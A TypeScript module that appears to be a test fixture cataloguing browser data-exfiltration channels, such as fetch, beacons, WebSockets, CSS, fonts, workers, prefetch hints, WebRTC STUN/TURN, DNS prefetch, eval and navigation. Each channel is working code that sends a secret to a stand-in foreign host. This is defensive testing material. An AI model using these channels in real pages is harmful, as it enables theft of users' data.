/** Where a hostile script would send what it read. */
export interface Targets {
  /** Somebody else's server, with a slash at its end: `http://127.0.0.1:1/`. */
  readonly foreign: string;
  /** The same for WebSockets. */
  readonly socket: string;
  /** The page's own host, whose log somebody may read. */
  readonly own: string;
  /** Host and port that nothing but this road connects to; takes connections and packets. */
  readonly bare: string;
  /** What must not leave. */
  readonly secret: string;
}

/** One way in which a script may send something out of a page; runs inside the page. */
export type Road = (targets: Targets) => unknown;

/* Each road stands for itself, because it is carried into the page as its text alone. */

/** Roads that leave the page where it is. */
export const QUIET_ROADS: Readonly<Record<string, Road>> = {
  fetch: ({ foreign, secret }) => fetch(foreign + secret, { mode: 'no-cors' }),
  'fetch of its own host': ({ own, secret }) => fetch(own + secret),
  'fetch kept alive': ({ foreign, secret }) => fetch(foreign + secret, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ foreign, secret }) => {
    const request = new XMLHttpRequest();
    request.open('GET', foreign + secret);
    request.send();
  },
  beacon: ({ foreign, secret }) => navigator.sendBeacon(foreign + secret, 'x'),
  WebSocket: ({ socket, secret }) => new WebSocket(socket + secret),
  EventSource: ({ foreign, secret }) => new EventSource(foreign + secret),
  WebTransport: ({ bare, secret }) => new WebTransport(`https://${bare}/${secret}`).ready,
  image: ({ foreign, secret }) => {
    new Image().src = foreign + secret;
  },
  'image of its own host': ({ own, secret }) => {
    new Image().src = own + secret;
  },
  srcset: ({ foreign, secret }) => {
    const image = document.body.appendChild(document.createElement('img'));
    image.srcset = `${foreign}${secret} 1x`;
  },
  'CSS background': ({ foreign, secret }) => {
    document.body.style.backgroundImage = `url(${foreign}${secret})`;
  },
  'CSS @import': ({ foreign, secret }) => {
    const style = document.head.appendChild(document.createElement('style'));
    style.textContent = `@import url(${foreign}${secret});`;
  },
  'CSS background in a constructed sheet': ({ foreign, secret }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url(${foreign}${secret}) }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: ({ foreign, secret }) => {
    const font = new FontFace('Stolen', `url(${foreign}${secret})`);
    document.fonts.add(font);
    void font.load().catch(() => undefined);
  },
  stylesheet: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = foreign + secret;
    document.head.append(link);
  },
  script: ({ foreign, secret }) => {
    const script = document.createElement('script');
    script.src = foreign + secret;
    document.head.append(script);
  },
  'script of its own host': ({ own, secret }) => {
    const script = document.createElement('script');
    script.src = own + secret;
    document.head.append(script);
  },
  module: ({ foreign, secret }) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = foreign + secret;
    document.head.append(script);
  },
  'dynamic import': ({ own, secret }) => import(own + secret),
  worker: ({ own, secret }) => new Worker(own + secret),
  'worker from a blob': ({ foreign, secret }) =>
    new Worker(
      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(foreign + secret)}, {mode: 'no-cors'})`])),
    ),
  'shared worker': ({ own, secret }) => new SharedWorker(own + secret),
  'service worker': ({ own, secret }) => navigator.serviceWorker.register(own + secret),
  video: ({ foreign, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    video.src = foreign + secret;
    video.load();
  },
  audio: ({ foreign, secret }) => {
    const audio = document.body.appendChild(document.createElement('audio'));
    audio.preload = 'auto';
    audio.src = foreign + secret;
    audio.load();
  },
  object: ({ foreign, secret }) => {
    const object = document.createElement('object');
    object.data = foreign + secret;
    document.body.append(object);
  },
  embed: ({ foreign, secret }) => {
    const embed = document.createElement('embed');
    embed.src = foreign + secret;
    document.body.append(embed);
  },
  iframe: ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.src = foreign + secret;
    document.body.append(frame);
  },
  'iframe of its own host': ({ own, secret }) => {
    const frame = document.createElement('iframe');
    frame.src = own + secret;
    document.body.append(frame);
  },
  'form into a frame': ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.name = 'inside';
    const form = document.createElement('form');
    form.action = foreign + secret;
    form.target = 'inside';
    document.body.append(frame, form);
    form.submit();
  },
  ping: ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = '#';
    link.ping = foreign + secret;
    link.click();
  },
  prefetch: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = foreign + secret;
    document.head.append(link);
  },
  preload: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = foreign + secret;
    document.head.append(link);
  },
  modulepreload: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = foreign + secret;
    document.head.append(link);
  },
  manifest: ({ own, secret }) => {
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = own + secret;
    document.head.append(link);
  },
  favicon: ({ foreign, secret }) => {
    for (const old of document.querySelectorAll('link[rel~="icon"]')) old.remove();
    const link = document.createElement('link');
    link.rel = 'icon';
    link.href = foreign + secret;
    document.head.append(link);
  },
  'speculation rules': ({ own, secret }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ urls: [own + secret], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  'SVG image': ({ foreign, secret }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', foreign + secret);
    svg.append(image);
    document.body.append(svg);
  },
  'WebRTC with a STUN server': ({ bare }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${bare}` }] });
    connection.createDataChannel('x');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  'WebRTC with a TURN user': ({ bare, secret }) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${bare}`, username: secret, credential: secret }],
      iceTransportPolicy: 'relay',
    });
    connection.createDataChannel('x');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  'WebRTC from a fresh frame': ({ bare }) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const Connection = (frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection })
      .RTCPeerConnection;
    const connection = new Connection({ iceServers: [{ urls: `stun:${bare}` }] });
    connection.createDataChannel('x');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  'dns-prefetch': ({ secret }) => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = `http://${secret}.test`;
    document.head.append(link);
  },
  'fetch later': ({ foreign, secret }) => {
    (window as unknown as { fetchLater(to: string, how: object): void }).fetchLater(foreign + secret, {
      activateAfter: 0,
    });
  },
  track: ({ own, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    const track = document.createElement('track');
    track.default = true;
    track.src = own + secret;
    video.append(track);
    track.track.mode = 'showing';
  },
  'picture of a button': ({ foreign, secret }) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = foreign + secret;
    document.body.append(input);
  },
  'poster of a video': ({ foreign, secret }) => {
    const video = document.body.appendChild(document.createElement('video'));
    video.poster = foreign + secret;
  },
  'frame with its own document': ({ foreign, secret }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${foreign}${secret}">`;
    document.body.append(frame);
  },
  'HTML as text': ({ foreign, secret }) => {
    const box = document.body.appendChild(document.createElement('div'));
    // eslint-disable-next-line no-restricted-properties -- a road that a hostile script would try
    box.innerHTML = `<img src="${foreign}${secret}">`;
  },
  'code as text': ({ foreign, secret }) => {
    return eval(`fetch(${JSON.stringify(foreign + secret)}, { mode: 'no-cors' })`) as unknown;
  },
  preconnect: ({ bare }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = `http://${bare}`;
    document.head.append(link);
  },
};

/** Roads that take the whole page along, or open another. */
export const LEAVING_ROADS: Readonly<Record<string, Road>> = {
  'location =': ({ foreign, secret }) => {
    location.href = foreign + secret;
  },
  'location = of its own host': ({ own, secret }) => {
    location.href = own + secret;
  },
  'location.replace': ({ foreign, secret }) => {
    location.replace(foreign + secret);
  },
  'meta refresh': ({ foreign, secret }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${foreign}${secret}`;
    document.head.append(meta);
  },
  'click on a link': ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = foreign + secret;
    link.click();
  },
  'navigation.navigate': ({ foreign, secret }) => {
    (window as unknown as { navigation: { navigate(to: string): void } }).navigation.navigate(
      foreign + secret,
    );
  },
  'link that downloads': ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = foreign + secret;
    link.download = 'x';
    link.click();
  },
  'window onto a file of its own host': async ({ foreign, own, secret }) => {
    const opened = window.open(own.replace(/x\?$/u, 'robots.txt'));
    // Until the file is there, the window is still this page's own.
    for (let tries = 0; tries < 20; tries += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      await opened?.fetch(foreign + secret, { mode: 'no-cors' }).catch(() => undefined);
    }
  },
  'window.open': ({ foreign, secret }) => {
    window.open(foreign + secret);
  },
  'form of its own page': ({ foreign, secret }) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = foreign + secret;
    form.submit();
  },
  'javascript address': ({ foreign, secret }) => {
    location.href = `javascript:void fetch(${JSON.stringify(foreign + secret)}, {mode: 'no-cors'})`;
  },
};

export const ROADS: Readonly<Record<string, Road>> = { ...QUIET_ROADS, ...LEAVING_ROADS };

/** Roads that carry no readable words: that somebody came is what tells. Each needs a host of its own. */
export const BARE_ROADS = [
  'WebTransport',
  'WebRTC with a STUN server',
  'WebRTC with a TURN user',
  'WebRTC from a fresh frame',
  'preconnect',
] as const;
